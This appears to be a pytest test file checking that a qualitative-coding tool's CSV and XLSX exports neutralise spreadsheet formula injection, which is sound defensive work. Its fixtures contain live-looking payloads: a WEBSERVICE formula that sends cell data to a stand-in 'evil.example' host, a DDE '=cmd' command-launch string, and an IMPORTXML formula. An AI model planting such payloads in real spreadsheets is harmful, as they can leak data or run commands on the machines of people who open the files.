"""Spreadsheet formula injection (OWASP CSV injection): hostile names and texts never become formulas.

A project whose code names, variable values, document names, coder names and quotes start with
``=``, ``+``, ``-`` or ``@`` is exported to every XLSX and CSV format and read back: XLSX cells are
text (never formulas) holding the exact text, CSV cells carry a leading apostrophe, numbers stay
numbers. Control characters in a stored name (a form feed, ESC) export without an error.
"""
from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from coding.services import codes, coders, documents, segments, variables
from coding.analysis.cooccurrence import cooccurrence
from coding.analysis.crosstab import crosstab
from coding.analysis.matrix_export import (write_cooccurrence_csv, write_cooccurrence_xlsx, write_crosstab_csv, write_crosstab_xlsx)
from coding.store.models import TABLES
from coding.reports.quotes import write_quotes
from coding.exchange.sheetcells import safe_cell
from coding.text.textnorm import export_text
from tests.coding.helpers import parsed, span

LINK = '=WEBSERVICE("evil.example?d="&A1)'  # no "/": that would split the code path
CODE_NAMES = [LINK, "+SUM(1,2)", "-Kritik", "@Ablehnung"]
GROUPS = ["=1+2", "-5 Punkte", "+49 170 1234"]
DOC_NAMES = ["=cmd|' /C calc'!A0", "-Interview 2", "@Interview 3"]
CODER = "=Anna"
TEXT = "I: Was sagen Sie?\nB: =2+3 rechnet sie. - ja, also. +1 dafür.\n"
QUOTES = ["=2+3 rechnet sie.", "- ja, also.", "+1 dafür."]


@pytest.fixture
def hostile(project):
    """Every name a colleague's codebook or survey table could plant, coded on every document."""
    with project.action("Hostile study") as act:
        coder = coders.add_coder(act, CODER)
        ids = {n: codes.create_code(act, n) for n in CODE_NAMES}
        ids["child"] = codes.create_code(act, "=IMPORTXML(A1)", ids[LINK])
        quote_of = {LINK: QUOTES[0], "child": QUOTES[0], "+SUM(1,2)": QUOTES[1], "-Kritik": QUOTES[2],
                    "@Ablehnung": QUOTES[1]}
        variables.define_variable(act, "Gruppe", "category")
        variables.define_variable(act, "Punkte", "integer")
        for doc_name, group in zip(DOC_NAMES, GROUPS):
            doc = documents.add_document(act, doc_name, parsed(TEXT), label=doc_name)
            variables.set_value_by_name(act, doc, "Gruppe", group)
            variables.set_value_by_name(act, doc, "Punkte", -5)
            for code, quote in quote_of.items():
                segments.apply_code(act, doc, ids[code], coder, *span(TEXT, quote))
    return project


def _xlsx_cells(path):
    return [c for ws in load_workbook(path).worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def _check_xlsx(path) -> set[str]:
    """Every text cell is a string cell (no formula); returns the texts it holds."""
    cells = _xlsx_cells(path)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert any(isinstance(c.value, int) and not isinstance(c.value, bool) for c in cells)  # numbers stay numbers
    return texts


def _check_csv(path, delimiter: str, encoding: str = "utf-8") -> list[list[str]]:
    """No field starts a formula unless it is a plain number; hostile texts carry the apostrophe."""
    with open(path, encoding=encoding, newline="") as fh:
        rows = list(csv.reader(fh, delimiter=delimiter))
    fields = [f for row in rows for f in row]
    for f in fields:
        if f[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(f.replace(",", "."))  # only a number may start like a formula
    return rows


def test_crosstab_xlsx_keeps_hostile_text_as_text(hostile, tmp_path):
    with hostile.read() as conn:
        by_group, by_doc = crosstab(conn, "Gruppe"), crosstab(conn, None)
    texts = _check_xlsx(write_crosstab_xlsx(by_group, tmp_path / "m.xlsx"))
    assert set(GROUPS) <= texts  # column headers: the exact variable values
    assert LINK in texts and f"{LINK}/=IMPORTXML(A1)" in texts
    texts = _check_xlsx(write_crosstab_xlsx(by_doc, tmp_path / "d.xlsx", lang="de"))
    assert {"=cmd|' /C calc'!A0", "-Interview 2"} <= texts
    ws = load_workbook(tmp_path / "m.xlsx").worksheets[0]
    assert set([c.value for c in ws[2]][1:4]) == set(GROUPS) and all(c.data_type == "s" for c in ws[2])
    assert ws.cell(3, 1).quotePrefix  # Excel keeps the cell text when someone edits it


@pytest.mark.parametrize("values", ["counts", "shares", "per_1000_words"])
@pytest.mark.parametrize("german", [False, True])
def test_crosstab_csv_neutralises_formulas(hostile, tmp_path, values, german):
    with hostile.read() as conn:
        table = crosstab(conn, "Gruppe")
    out = write_crosstab_csv(table, tmp_path / "m.csv", values=values, german=german)
    rows = _check_csv(out, ";" if german else ",", "utf-8-sig" if german else "utf-8")
    header = rows[0]
    suffix = " (%)" if values == "shares" else ""
    assert set(header[1:4]) == {"'" + g + suffix for g in GROUPS}
    assert [r[0] for r in rows[1:6]] == ["'" + LINK, "'" + LINK + "/=IMPORTXML(A1)", "'+SUM(1,2)",
                                         "'-Kritik", "'@Ablehnung"]
    assert all(r[1] for r in rows[1:6])  # numbers are there, unquoted
    if values == "counts":
        assert rows[1][1:] == ["1", "1", "1", "3"]


def test_cooccurrence_exports(hostile, tmp_path):
    with hostile.read() as conn:
        co = cooccurrence(conn)
    texts = _check_xlsx(write_cooccurrence_xlsx(co, tmp_path / "c.xlsx"))
    assert {LINK, "+SUM(1,2)", "-Kritik", "@Ablehnung"} <= texts
    rows = _check_csv(write_cooccurrence_csv(co, tmp_path / "c.csv", german=False), ",")
    pairs = {(r[0], r[1]) for r in rows[1:]}  # the codes coded on the same quote
    assert pairs == {("'" + LINK, "'" + LINK + "/=IMPORTXML(A1)"), ("'+SUM(1,2)", "'@Ablehnung")}
    assert all(r[2].isdigit() for r in rows[1:])


@pytest.mark.parametrize("lang,delimiter", [("de", ";"), ("en", ",")])
def test_quotes_csv_neutralises_quotes_names_and_coders(hostile, tmp_path, lang, delimiter):
    out = tmp_path / "zitate.csv"
    assert write_quotes(hostile, out, LINK, lang=lang) == 6  # the code and its subcode in 3 documents
    rows = _check_csv(out, delimiter, "utf-8-sig")
    assert {r[0] for r in rows[1:]} == {"'" + QUOTES[0]}
    assert {r[7] for r in rows[1:]} == {"'" + CODER}
    assert {r[5] for r in rows[1:]} == {"'" + LINK, "'" + LINK + "/=IMPORTXML(A1)"}
    assert all(r[4].isdigit() for r in rows[1:])  # the paragraph position stays a number
    assert write_quotes(hostile, out, "-Kritik", lang=lang) == 3
    assert {r[0] for r in _check_csv(out, delimiter, "utf-8-sig")[1:]} == {"'+1 dafür."}
    assert {r[2] for r in _check_csv(out, delimiter, "utf-8-sig")[1:]} == {"'" + d for d in DOC_NAMES}


def test_control_characters_in_stored_names_export(hostile, tmp_path):
    # Older projects (or a foreign import) may hold them; the export must not fail on them.
    with hostile.engine.begin() as conn:
        conn.execute(update(TABLES["codes"]).where(TABLES["codes"].c.name == "-Kritik")
                     .values(name="Seite\x0cUmbruch\x1b[31m\x00"))
    with hostile.read() as conn:
        table, co = crosstab(conn, "Gruppe"), cooccurrence(conn)
    texts = _check_xlsx(write_crosstab_xlsx(table, tmp_path / "m.xlsx"))
    assert "Seite\nUmbruch[31m" in texts
    _check_xlsx(write_cooccurrence_xlsx(co, tmp_path / "c.xlsx"))
    out = write_crosstab_csv(table, tmp_path / "m.csv", german=False)
    with open(out, encoding="utf-8", newline="") as fh:
        assert "Seite\nUmbruch[31m" in {r[0] for r in csv.reader(fh)}


@pytest.mark.parametrize("value,csv_value", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-5 Punkte", "'-5 Punkte"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), (" =1", "' =1"), ("\t-5", "'\t-5"),
    ("-5", "-5"), ("+1,5", "+1,5"), ("-1.234,5", "-1.234,5"),
    ("Kritik", "Kritik"), ("", ""), (-5, -5), (2.5, 2.5), (None, None), (True, True),
    ("a\x0cb\x1bc\x00d\x0be", "a\nbcd\ne"), ("\x1b=1", "'=1"),
])
def test_safe_cell(value, csv_value):
    assert safe_cell(value) == csv_value
    xlsx_value = safe_cell(value, csv=False)
    assert xlsx_value == (export_text(value) if isinstance(value, str) else value)
